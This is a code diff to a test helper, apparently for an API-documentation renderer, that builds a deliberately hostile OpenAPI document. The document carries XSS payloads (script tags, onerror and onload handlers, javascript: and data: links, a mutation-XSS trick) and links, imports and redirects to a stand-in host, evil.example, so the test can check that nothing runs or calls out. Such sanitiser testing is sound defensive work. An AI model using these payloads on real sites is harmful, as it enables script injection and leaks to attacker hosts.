@@ -65,15 +65,18 @@ def hostile(port: int) -> dict[str, Any]:
     """Return a document that tries to run something, to call the canary at *port*, and to look about."""
     call = f"http://evil.example:{port}"
     run = "window.hurt=1;fetch('/v1/hub')"
-    text = (
-        f'<script>{run}</script><img src=x onerror="{run}"><svg onload="{run}"></svg>'
-        f"<iframe srcdoc='<script>parent.hurt=1</script>'></iframe><form action={call}><button>x</button></form>"
-        f"<style>@import '{call}/style.css';</style><base href='{call}/'><meta http-equiv=refresh content='0;{call}'>"
-        f"<link rel=stylesheet href='{call}/link.css'>"
-        f"\n\n[click](javascript:{run}) [data](data:text/html,<script>{run}</script>)\n\n</script><script>{run}</script>"
-        '\n\n<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=1&gt;">'
-        "\n\n\u2028window.hurt=1\u2029 <!--<script>"
-    )
+    text = "\n\n".join((
+        f"<script>{run}</script><img src=x onerror=\"{run}\"><svg onload=\"{run}\"></svg>",
+        "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
+        f"<form action={call}><button>x</button></form><style>@import '{call}/style.css';</style>",
+        f"<base href='{call}/'><meta http-equiv=refresh content='0;{call}'>",
+        f"<link rel=stylesheet href='{call}/link.css'>",
+        f"[click](javascript:{run}) [data](data:text/html,<script>{run}</script>)",
+        f"</script><script>{run}</script>",
+        "<math><mtext><table><mglyph><style><!--</style>"
+        "<img title=\"--&gt;&lt;img src=1 onerror=window.hurt=1&gt;\">",
+        "\u2028window.hurt=1\u2029 <!--<script>",
+    ))  # fmt: skip
     return {
         "openapi": "3.1.0",
         "info": {
